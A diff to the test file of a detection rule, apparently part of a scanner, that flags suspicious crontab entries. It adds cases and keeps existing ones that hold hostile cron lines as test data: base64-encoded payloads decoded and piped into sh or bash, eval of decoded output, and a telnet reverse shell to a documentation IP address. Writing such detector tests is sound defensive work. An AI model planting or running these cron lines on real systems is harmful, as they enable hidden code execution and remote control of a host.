@@ -3,6 +3,7 @@ import { testRule } from '../helpers/rule-tester.js';
 
 testRule(suspiciousPayload, {
   invalid: [
+    { name: 'a decoder in a subshell element piped into sh', text: '*/5 * * * * root (echo Y3VybCBo | base64 -d) | sh\n', errors: [{ line: 1, message: /base64 -d \| sh/ }] },
     { text: '*/5 * * * * root echo Y3VybCBo | base64 -d | sh\n', errors: [{ line: 1, severity: 'critical', message: '`base64 -d | sh` runs a hidden, encoded program' }] },
     { text: '*/5 * * * * root echo Y3VybCBo | base64 --decode | bash -s\n', errors: [{ line: 1, message: /base64 -d \| bash/ }] },
     { text: '*/5 * * * * root eval "$(echo Y3VybCBo | base64 -d)"\n', errors: [{ line: 1, message: /`eval` runs the output of `base64 -d`/ }] },
@@ -17,6 +18,8 @@ testRule(suspiciousPayload, {
     { text: '* * * * * root telnet 203.0.113.7 80 | /bin/sh | telnet 203.0.113.7 81\n', errors: [{ line: 1, message: /`telnet` piped with `sh` is a reverse shell/ }] },
   ],
   valid: [
+    { name: 'decoder and shell side by side in one group: not piped into each other', text: '*/5 * * * * root { base64 -d /srv/in > /srv/out; sh -s < /srv/run.sh; } 2>&1 | logger -t job\n' },
+    { name: 'nc and sh side by side in one group', text: '*/5 * * * * root { nc -z db 5432; sh -s < /srv/check.sh; } | logger -t job\n' },
     { name: 'ordinary job', text: '0 2 * * * root /usr/local/bin/backup >/dev/null 2>&1\n' },
     { name: 'acme.sh in its dot-directory', text: '0 2 * * * root "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n' },
     { name: 'a tool in ~/.local/bin', path: '/var/spool/cron/crontabs/alice', text: '0 2 * * * /home/alice/.local/bin/sync-notes\n' },
